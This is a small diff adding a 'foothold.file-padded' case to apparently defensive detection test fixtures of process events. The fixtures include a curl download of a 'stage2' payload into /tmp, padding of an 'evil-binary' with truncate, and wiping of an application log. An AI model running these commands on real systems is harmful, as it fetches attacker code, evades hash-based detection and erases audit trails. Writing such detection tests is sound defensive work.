@@ -657,6 +657,10 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
             ancestors=("/usr/bin/node", "/usr/bin/npm")),
         run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh"),
     ),
+    "foothold.file-padded": (
+        run("truncate -s +1 /tmp/evil-binary"),
+        run("truncate -s 0 /var/log/app.log"),
+    ),
 }
 
 
